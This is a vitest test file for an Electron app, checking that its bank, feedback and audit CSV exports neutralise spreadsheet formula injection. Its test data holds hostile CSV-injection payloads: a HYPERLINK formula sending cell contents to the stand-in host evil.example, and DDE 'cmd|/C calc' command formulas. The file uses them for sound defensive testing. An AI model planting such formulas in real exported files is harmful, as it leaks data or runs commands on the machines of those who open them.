// Exports neutralise spreadsheet formulas: bank CSV, feedback CSV and the audit CSV never hand a cell starting with
// =, +, -, @, tab or CR to a spreadsheet as a formula.
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServices, type Services } from '../../electron/services/app-services';
import { FileSecretStore, plainCodec } from '../../electron/services/secrets/secret-store';
import { readCsv } from '../../electron/services/banks/csv';
import { auditExport } from '../../electron/cli/commands/audit';
import { csvCell } from '../../electron/services/export/csv-cell';
import { tempDir } from '../helpers/temp-dir';
import { localDispatch } from '../helpers/local-api';

const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
const temp = tempDir('matchdesk-csv-');
let services: Services;

async function call<T = unknown>(name: string, input: unknown = {}): Promise<T> {
  const r = await localDispatch(services)(name, input);
  if (!r.ok) throw new Error(`${name}: ${r.error.code} ${r.error.message}`);
  return r.value as T;
}

/** Every cell a spreadsheet would treat as a formula. */
function formulaCells(csv: string): string[] {
  return [...readCsv(csv)].flatMap(([, fields]) => fields).filter((f) => /^[=+\-@\t\r]/.test(f));
}

beforeAll(() => {
  services = createServices({
    dataDir: join(temp.dir, 'data'),
    version: 'test',
    transport: 'http',
    secrets: new FileSecretStore(join(temp.dir, 'secrets.json'), plainCodec),
    reviewer: '=cmd|"/C calc"!A0',
    startDispatcher: false,
    resumeMatrix: false,
  });
});
afterAll(async () => {
  await services.close();
  temp.cleanup();
});

describe('CSV exports', () => {
  it('csvCell prefixes formula starts with an apostrophe and leaves numbers alone', () => {
    for (const v of HOSTILE) expect(csvCell(v).replace(/^"/, '')).toMatch(/^'/);
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('plain, text')).toBe('"plain, text"');
  });

  it('bank CSV: hostile labels are neutralised, and survive a round trip through import', async () => {
    const bank = services.banks.ensure({ name: 'Imported', severity: 50 });
    HOSTILE.forEach((label, i) => services.banks.addContent(bank.id, [{ type: 'md5', signal: String(i).padStart(32, 'a') }], { label }));
    const { text } = await call<{ text: string }>('banks.export', { bankName: 'Imported', format: 'csv' });
    expect(formulaCells(text)).toEqual([]);
    await call('banks.importCsv', { bankName: 'Copy', csv: text });
    const labels = services.banks.exportJson('Copy')!.content.map((c) => c.label);
    expect(labels.slice(0, 4)).toEqual(HOSTILE.slice(0, 4));
    for (const l of labels.slice(4)) expect(l!.trim()).toBe('=1+1');
  });

  it('feedback CSV: hostile bank names are neutralised', async () => {
    // A bank name from HMA is remote-controlled: put one in the feedback report through a decided match.
    services.db.exec(`INSERT INTO media_items (source, source_ref, byte_length, md5, sha256, created_at) VALUES ('t', 'x', 1, 'm', 's', 1)`);
    const mediaId = (services.db.prepare('SELECT id FROM media_items').get() as { id: number }).id;
    services.queue.enqueue(mediaId, [{ matcher: 'hma', bankName: '=HYPERLINK("https://evil.example")', signalType: 'pdq', signal: 'x', distance: 3, contentRef: 'c', label: null, severity: 50 }]);
    const item = services.db.prepare('SELECT id FROM queue_items').get() as { id: number };
    await call('queue.decide', { id: item.id, verdict: 'false_positive' });
    const { text } = await call<{ text: string }>('feedback.export', { format: 'csv' });
    expect(text).toContain('HYPERLINK');
    expect(formulaCells(text)).toEqual([]);
  });

  it('audit CSV: a hostile actor or subject is neutralised', () => {
    const csv = auditExport(services.audit.list(100).reverse(), 'csv');
    expect(csv).toContain('cmd|');
    expect(formulaCells(csv)).toEqual([]);
  });
});
